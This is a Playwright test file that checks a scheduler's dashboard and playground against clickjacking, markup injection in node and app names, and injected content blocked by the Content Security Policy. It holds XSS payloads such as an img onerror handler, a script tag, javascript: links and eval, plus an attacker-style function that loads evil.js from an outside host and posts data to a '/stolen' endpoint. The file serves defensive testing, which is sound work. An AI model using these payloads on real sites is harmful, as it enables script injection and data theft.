/** What others have put into the pages of a host, or around them: it is shown, at most, and never run. */

import { expect, test, type Page } from "@playwright/test";
import { Host, needsProgram, queues } from "./host";
import { openAt, show } from "./page";
import { Strangers } from "./strangers";

needsProgram();

/** What a node, an application or an ask may be named after. */
const markup = `<img src=x onerror="window.owned=1"><script>window.owned=1</script>`;

let host: Host;
let strangers: Strangers;
test.beforeAll(async () => {
  [host, strangers] = await Promise.all([Host.start(), Strangers.start()]);
  await host.configure(queues);
});
test.afterAll(async () => {
  strangers.stop();
  await host.stop();
});

test("no page frames what the host serves", async ({ page }) => {
  await page.goto(strangers.address);
  for (const path of ["", "playground/", "v1/nodes"]) {
    await page.evaluate((src) => new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.src = src;
      frame.onload = done;
      document.body.append(frame);
    }), host.address + path);
  }
  expect(page.frames()).toHaveLength(4);
  for (const frame of page.frames().slice(1)) {
    expect(frame.url()).toContain("chrome-error:");
    expect(await frame.locator("nav, main").count()).toBe(0);
  }
});

test("names with markup are shown as they are, and run nothing", async ({ page }) => {
  await host.send(
    { type: "node.add", id: `n${markup}`, capacity: { vcore: 2 }, attributes: { zone: markup } },
    { type: "app.add", id: `a${markup}`, queue: "root.batch", user: `u${markup}`, tags: { [markup]: markup } },
    { type: "ask.add", id: `k${markup}`, app: `a${markup}`, resources: { vcore: 1 } },
    { type: "ask.add", id: `w${markup}`, app: `a${markup}`, resources: { vcore: 50 }, constraints: { [markup]: [markup] } },
  );
  const violations: string[] = [];
  page.on("console", (message) => { if (message.text().includes("Content Security Policy")) violations.push(message.text()); });
  await openAt(page, host);
  for (const view of ["Overview", "Applications", "Asks", "Nodes", "Decisions"] as const) {
    await show(page, view);
    await expect(page.getByRole("main")).toContainText(markup);
  }
  for (const place of [`apps/a${markup}`, `asks/w${markup}`, `nodes/n${markup}`]) {
    await page.goto(`${host.address}#/${place.split("/").map(encodeURIComponent).join("/")}`);
    await expect(page.getByRole("main")).toContainText(markup);
  }
  expect(await page.evaluate(() => "owned" in window)).toBe(false);
  expect(await page.locator("main img, main script").count()).toBe(0);
  expect(violations).toEqual([]); // nothing even tried
});

/** Where a page notes which directives refused something. */
type Refused = Window & { refused: string[] };

/** Puts into a page what an attacker would. */
function inject(page: Page, elsewhere: string) {
  return page.evaluate(async (elsewhere) => {
    const refused: string[] = [];
    (window as unknown as Refused).refused = refused;
    document.addEventListener("securitypolicyviolation", (event) => { refused.push(event.effectiveDirective); });
    const add = (tag: string, attributes: Record<string, string>, text = "") => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      made.textContent = text;
      document.body.append(made);
      return made;
    };
    add("script", {}, "window.owned = 1");
    add("script", { src: `${elsewhere}evil.js` });
    add("script", { src: "data:text/javascript,window.owned=1" });
    add("button", { onclick: "window.owned = 1" }).click();
    add("a", { href: "javascript:window.owned = 1" }).click();
    add("img", { src: `${elsewhere}pixel.png` });
    add("iframe", { src: elsewhere });
    add("object", { data: elsewhere });
    add("link", { rel: "stylesheet", href: `${elsewhere}style.css` });
    add("base", { href: elsewhere });
    const form = add("form", { action: elsewhere, method: "post" }) as HTMLFormElement;
    form.submit();
    await fetch(`${elsewhere}stolen`, { mode: "no-cors" }).catch(() => undefined);
    // The policy does not hold for what the tools of the browser run, as this function is, but for what the page runs later.
    await new Promise<void>((done) => {
      setTimeout(() => {
        try { (0, eval)("window.owned = 1"); } catch { /* as it has to be */ }
        done();
      }, 0);
    });
  }, elsewhere);
}

const directives = ["script-src-elem", "script-src-attr", "script-src", "img-src", "frame-src", "object-src", "style-src-elem", "base-uri", "form-action", "connect-src"];

for (const [what, path] of [["dashboard", ""], ["playground", "playground/"]] as const) {
  test(`what gets into the ${what} all the same is not run, and sends nothing away`, async ({ page }) => {
    const opened = await page.goto(host.address + path);
    expect(opened?.status()).toBe(200);
    await expect(page.getByRole("main").first()).toBeVisible({ timeout: 60_000 });
    strangers.asked.length = 0;
    await inject(page, strangers.address);
    await expect.poll(() => page.evaluate(() => (window as unknown as Refused).refused)).toEqual(expect.arrayContaining(directives));
    expect(await page.evaluate(() => "owned" in window)).toBe(false);
    expect(strangers.asked).toEqual([]);
  });
}
